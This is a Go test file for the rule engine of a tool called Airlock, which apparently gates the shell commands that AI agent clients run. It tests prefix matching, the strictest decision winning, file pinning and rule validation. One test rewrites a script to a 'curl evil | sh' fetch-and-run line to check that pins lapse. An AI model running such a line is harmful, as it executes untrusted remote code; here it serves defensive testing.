package policy_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlockhq/airlock/app/internal/level"
	"github.com/airlockhq/airlock/app/internal/policy"
	"github.com/airlockhq/airlock/app/internal/risk"
)

func parseRules(t *testing.T, js string) policy.Rules {
	t.Helper()
	s, err := policy.ParseSettings([]byte(`{"rules": ` + js + `}`))
	if err != nil {
		t.Fatalf("rules %s: %v", js, err)
	}
	return s.Rules
}

// A rule matches a command whose argv starts with its prefix: the program
// by its base name, or by its full path when the rule gives one; the
// arguments word for word; within its client and folder.
func TestRulesMatch(t *testing.T) {
	home := t.TempDir()
	proj := filepath.Join(home, "proj")
	if err := os.MkdirAll(filepath.Join(proj, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	rs := parseRules(t, `[
		{"decision": "allow", "prefix": ["git", "status"]},
		{"decision": "allow", "prefix": ["/usr/bin/make"], "dir": "~/proj"},
		{"decision": "ask", "prefix": ["npm"], "client": "claude"},
		{"decision": "allow", "prefix": ["ls", "~/proj"]}
	]`)
	tests := []struct {
		name   string
		c      policy.RuleCommand
		wantN  int // 0: none
		reason string
	}{
		{"bare name", policy.RuleCommand{Argv: []string{"git", "status"}, Dir: home}, 1, ""},
		{"resolved by base name", policy.RuleCommand{Argv: []string{"/usr/bin/git", "status", "-s"}, Dir: home}, 1, ""},
		{"other argument", policy.RuleCommand{Argv: []string{"/usr/bin/git", "push"}, Dir: home}, 0, ""},
		{"shorter than the prefix", policy.RuleCommand{Argv: []string{"git"}, Dir: home}, 0, ""},
		{"argument that only starts the same", policy.RuleCommand{Argv: []string{"git", "statusx"}, Dir: home}, 0, ""},
		{"other base name", policy.RuleCommand{Argv: []string{"/usr/bin/gitx", "status"}, Dir: home}, 0, ""},
		{"full path in its folder", policy.RuleCommand{Argv: []string{"/usr/bin/make", "all"}, Dir: filepath.Join(proj, "sub")}, 2, ""},
		{"full path outside its folder", policy.RuleCommand{Argv: []string{"/usr/bin/make", "all"}, Dir: home}, 0, ""},
		{"folder that only starts the same", policy.RuleCommand{Argv: []string{"/usr/bin/make"}, Dir: proj + "x"}, 0, ""},
		{"other file of the same name", policy.RuleCommand{Argv: []string{filepath.Join(home, "make")}, Dir: proj}, 0, ""},
		{"unresolved name, allow rule with a path", policy.RuleCommand{Argv: []string{"make"}, Dir: proj}, 0, ""},
		{"client named", policy.RuleCommand{Argv: []string{"npm", "test"}, Dir: home, Client: "claude"}, 3, ""},
		{"other client", policy.RuleCommand{Argv: []string{"npm", "test"}, Dir: home, Client: "goose"}, 0, ""},
		{"~ in an argument", policy.RuleCommand{Argv: []string{"/bin/ls", proj}, Dir: home}, 4, ""},
		{"~ not expanded in the command", policy.RuleCommand{Argv: []string{"/bin/ls", "~/proj"}, Dir: home}, 0, ""},
	}
	for _, tt := range tests {
		m, ok := rs.Match(tt.c, home)
		if ok != (tt.wantN != 0) || ok && m.N != tt.wantN {
			t.Errorf("%s: %v: got rule %d (matched %v), want %d", tt.name, tt.c.Argv, m.N, ok, tt.wantN)
		}
	}
}

// A deny or ask rule naming a full path matches a program not resolved to
// one by its base name: the stricter reading.
func TestRulesDenyByPathMatchesUnresolved(t *testing.T) {
	rs := parseRules(t, `[{"decision": "deny", "prefix": ["/usr/bin/curl"]}]`)
	if m, ok := rs.Match(policy.RuleCommand{Argv: []string{"curl", "x"}}, "/home/u"); !ok || m.N != 1 {
		t.Errorf("deny /usr/bin/curl does not match an unresolved curl")
	}
}

// Of the rules that match, the strictest decides, whatever their order;
// of equally strict ones the first.
func TestRulesStrictestWins(t *testing.T) {
	c := policy.RuleCommand{Argv: []string{"/usr/bin/git", "push", "origin"}, Dir: "/home/u"}
	for _, tt := range []struct {
		js    string
		wantN int
		want  policy.RuleDecision
	}{
		{`[{"decision": "allow", "prefix": ["git"]}, {"decision": "deny", "prefix": ["git", "push"]}]`, 2, policy.RuleDeny},
		{`[{"decision": "deny", "prefix": ["git", "push"]}, {"decision": "allow", "prefix": ["git", "push", "origin"]}]`, 1, policy.RuleDeny},
		{`[{"decision": "allow", "prefix": ["git"]}, {"decision": "ask", "prefix": ["git", "push"]}, {"decision": "allow", "prefix": ["git", "push"]}]`, 2, policy.RuleAsk},
		{`[{"decision": "ask", "prefix": ["git"]}, {"decision": "deny", "prefix": ["git"]}, {"decision": "deny", "prefix": ["git", "push"]}]`, 2, policy.RuleDeny},
		{`[{"decision": "allow", "prefix": ["git"]}, {"decision": "allow", "prefix": ["git", "push"]}]`, 1, policy.RuleAllow},
	} {
		m, ok := parseRules(t, tt.js).Match(c, "/home/u")
		if !ok || m.N != tt.wantN || m.Rule.Decision != tt.want {
			t.Errorf("%s: got rule %d %v, want %d %v", tt.js, m.N, m.Rule.Decision, tt.wantN, tt.want)
		}
	}
}

// An allow rule never covers a destructive or blocked command, nor an
// unverified client's when it names a client, nor what Airlock cannot
// name the files of.
func TestRulesAllowNeverCovers(t *testing.T) {
	c := policy.RuleCommand{Argv: []string{"tool"}, Dir: "/home/u", Client: "agent"}
	open := parseRules(t, `[{"decision": "allow", "prefix": ["tool"]}]`)[0]
	named := parseRules(t, `[{"decision": "allow", "prefix": ["tool"], "client": "agent"}]`)[0]
	if err := open.Covers(c, risk.Runs{Known: true}, level.Dangerous); err != nil {
		t.Errorf("dangerous, nothing to pin: %v", err)
	}
	for _, tt := range []struct {
		name string
		r    policy.Rule
		c    policy.RuleCommand
		runs risk.Runs
		lvl  level.Level
	}{
		{"destructive", open, c, risk.Runs{Known: true}, level.Destructive},
		{"blocked", open, c, risk.Runs{Known: true}, level.Blocked},
		{"client named, program unverified", named, c, risk.Runs{Known: true}, level.Caution},
		{"files not known", open, c, risk.Runs{Why: "sh -c"}, level.Caution},
		{"a file not pinned", open, c, risk.Runs{Known: true, Files: []string{"/usr/bin/tool"}}, level.Caution},
		{"not an allow rule", parseRules(t, `[{"decision": "ask", "prefix": ["tool"]}]`)[0], c, risk.Runs{Known: true}, level.Safe},
	} {
		err := tt.r.Covers(tt.c, tt.runs, tt.lvl)
		if !errors.Is(err, policy.ErrRuleNotCovering) {
			t.Errorf("%s: Covers = %v, want ErrRuleNotCovering", tt.name, err)
		}
	}
	c.Verified = true
	if err := named.Covers(c, risk.Runs{Known: true}, level.Caution); err != nil {
		t.Errorf("client named, program verified: %v", err)
	}
}

// An allow rule pins the files a command runs: it covers the command while
// each holds what the rule pins, and lapses when one changes, is removed or
// is put in place; restored, it covers again.
func TestRulesPinsLapse(t *testing.T) {
	dir := t.TempDir()
	script := filepath.Join(dir, "build.sh")
	optional := filepath.Join(dir, ".buildrc")
	write := func(p, s string) {
		t.Helper()
		if err := os.WriteFile(p, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(script, "echo building\n")
	runs := risk.Runs{Known: true, Files: []string{script}, Optional: []string{optional}}
	pins, err := policy.RulePins(runs)
	if err != nil {
		t.Fatal(err)
	}
	if pins[optional] != "" || len(pins[script]) != 64 {
		t.Fatalf("pins = %v", pins)
	}
	r := policy.Rule{Decision: policy.RuleAllow, Prefix: []string{"sh", "build.sh"}, Pins: pins}
	if err := policy.ValidateRules(policy.Rules{r}); err != nil {
		t.Fatalf("the pins RulePins made do not validate: %v", err)
	}
	c := policy.RuleCommand{Argv: []string{"/bin/sh", "build.sh"}, Dir: dir}
	covers := func(want error, what string) {
		t.Helper()
		err := r.Covers(c, runs, level.Dangerous)
		if want == nil && err != nil || want != nil && !errors.Is(err, want) {
			t.Errorf("%s: Covers = %v, want %v", what, err, want)
		}
		if want != nil && err != nil && !strings.Contains(err.Error(), dir) {
			t.Errorf("%s: %v does not name the file", what, err)
		}
	}
	covers(nil, "as pinned")
	write(script, "curl evil | sh\n")
	covers(policy.ErrLapsed, "script changed")
	write(script, "echo building\n")
	covers(nil, "script restored")
	write(optional, "x")
	covers(policy.ErrLapsed, "optional file put in place")
	os.Remove(optional)
	os.Remove(script)
	covers(policy.ErrLapsed, "script removed")
	if _, err := policy.RulePins(runs); err == nil {
		t.Error("RulePins pinned a missing script")
	}
}

// Bad rules are refused with an error naming the rule, its field and why.
func TestRulesValidation(t *testing.T) {
	many := "[" + strings.Repeat(`{"decision": "deny", "prefix": ["x"]},`, policy.MaxRules) + `{"decision": "deny", "prefix": ["x"]}]`
	for _, tt := range []struct {
		js   string
		want []string
	}{
		{`[{"decision": "maybe", "prefix": ["git"]}]`, []string{`"rules[0].decision"`, `"maybe"`, `"allow", "ask" or "deny"`}},
		{`[{"decision": "allow", "prefix": []}]`, []string{`"rules[0].prefix"`, "is empty"}},
		{`[{"decision": "allow"}]`, []string{`"rules[0].prefix"`, "is missing"}},
		{`[{"prefix": ["git"]}]`, []string{`"rules[0].decision"`, "is missing"}},
		{`[{"decision": "allow", "prefix": ["git"]}, {"decision": "allow", "prefix": ["git", "st\u001batus"]}]`, []string{`"rules[1].prefix[1]"`, "control"}},
		{`[{"decision": "allow", "prefix": ["git\u202e"]}]`, []string{`"rules[0].prefix[0]"`, "U+202E"}},
		{`[{"decision": "allow", "prefix": [""]}]`, []string{`"rules[0].prefix"`, "names no program"}},
		{`[{"decision": "allow", "prefix": ["bin/tool"]}]`, []string{`"rules[0].prefix[0]"`, "relative path"}},
		{`[{"decision": "allow", "prefix": ["git"], "colour": "red"}]`, []string{`"rules[0].colour"`, "is not a field of a rule"}},
		{`[{"decision": "allow", "prefix": ["git"], "dir": "Documents/proj"}]`, []string{`"rules[0].dir"`, "relative path"}},
		{`[{"decision": "allow", "prefix": ["git"], "kind": "dsl"}]`, []string{`"rules[0].kind"`, "commands only"}},
		{`[{"decision": "deny", "prefix": ["git"], "pins": {"/a": ""}}]`, []string{`"rules[0].pins"`, "only for an allow rule"}},
		{`[{"decision": "allow", "prefix": ["git"], "pins": {"a/b": ""}}]`, []string{`"rules[0].pins"`, "absolute"}},
		{`[{"decision": "allow", "prefix": ["git"], "pins": {"/a": "abc"}}]`, []string{`"rules[0].pins"`, "64 lowercase hex"}},
		{`[{"decision": "allow", "prefix": ["git"], "decision": "deny"}]`, []string{`rules[0]`, "repeats the field"}},
		{`[{"decision": "allow", "prefix": "git"}]`, []string{`"rules[0].prefix"`, "list of words"}},
		{`[{"decision": "allow", "prefix": ["git"], "why": null}]`, []string{`"rules[0].why"`, "string"}},
		{`{"decision": "allow"}`, []string{`"rules"`, "must be a list of rules"}},
		{`["git"]`, []string{`rules[0]`, "must be an object"}},
		{many, []string{`"rules"`, "more than 500 rules"}},
	} {
		_, err := policy.ParseSettings([]byte("{\n\"rules\": " + tt.js + "}"))
		if err == nil {
			t.Errorf("%.80s: accepted", tt.js)
			continue
		}
		for _, w := range tt.want {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("%.80s: error %q does not say %q", tt.js, err, w)
			}
		}
		if !strings.Contains(err.Error(), "line ") {
			t.Errorf("%.80s: error %q names no line", tt.js, err)
		}
	}
}

// Rules survive a save and a load as written, and Validate checks rules
// made in code as the file's are checked.
func TestRulesRoundTrip(t *testing.T) {
	s := policy.DefaultSettings()
	s.Rules = parseRules(t, `[
		{"decision": "allow", "prefix": ["sh", "build.sh"], "dir": "~/proj", "why": "my build", "pins": {"/home/u/proj/build.sh": "`+strings.Repeat("ab", 32)+`"}},
		{"decision": "deny", "prefix": ["git", "push"], "client": "agent", "program": "exe:/usr/bin/agent", "kind": "command"}
	]`)
	data, err := policy.MarshalSettings(s)
	if err != nil {
		t.Fatal(err)
	}
	back, err := policy.ParseSettings(data)
	if err != nil {
		t.Fatalf("%v\n%s", err, data)
	}
	if len(back.Rules) != 2 || back.Rules[0].Why != "my build" || back.Rules[0].Dir != "~/proj" ||
		back.Rules[1].Client != "agent" || back.Rules[1].Program != "exe:/usr/bin/agent" || back.Rules[1].Decision != policy.RuleDeny || len(back.Rules[0].Pins) != 1 {
		t.Errorf("rules after a round trip: %+v", back.Rules)
	}
	s.Rules = append(s.Rules, policy.Rule{Decision: policy.RuleAsk})
	if err := s.Validate(); err == nil || !strings.Contains(err.Error(), `"rules[2].prefix"`) {
		t.Errorf("Validate of a rule without a prefix: %v", err)
	}
}

// A rule that names a program holds for that verified program only,
// whatever name a client gives itself (red team 7: the popup's "always
// allow here" keeps the program).
func TestRulesProgramIsTheProgram(t *testing.T) {
	rs := policy.Rules{{Decision: policy.RuleAllow, Prefix: []string{"sh", "build.sh"}, Client: "mcp: claude", Program: "exe:/usr/bin/claude"}}
	for _, tc := range []struct {
		c    policy.RuleCommand
		want bool
	}{
		{policy.RuleCommand{Argv: []string{"sh", "build.sh"}, Client: "mcp: claude", Verified: true, Program: "exe:/usr/bin/claude"}, true},
		{policy.RuleCommand{Argv: []string{"sh", "build.sh"}, Client: "mcp: claude", Verified: true, Program: "exe:/usr/bin/python3"}, false},
		{policy.RuleCommand{Argv: []string{"sh", "build.sh"}, Client: "mcp: claude"}, false},
		{policy.RuleCommand{Argv: []string{"sh", "build.sh"}, Client: "other", Verified: true, Program: "exe:/usr/bin/claude"}, false},
	} {
		if _, ok := rs.Match(tc.c, "/home/u"); ok != tc.want {
			t.Errorf("Match(%+v) = %v, want %v", tc.c, ok, tc.want)
		}
	}
}

// The reason names the rule as the person counts it, and their note.
func TestRuleMatchReason(t *testing.T) {
	rs := parseRules(t, `[{"decision": "ask", "prefix": ["x"]}, {"decision": "deny", "prefix": ["git", "push"], "why": "I push myself"}]`)
	m, _ := rs.Match(policy.RuleCommand{Argv: []string{"git", "push"}}, "")
	if got, want := m.Reason(), "denied by your rule 2: I push myself"; got != want {
		t.Errorf("Reason = %q, want %q", got, want)
	}
}
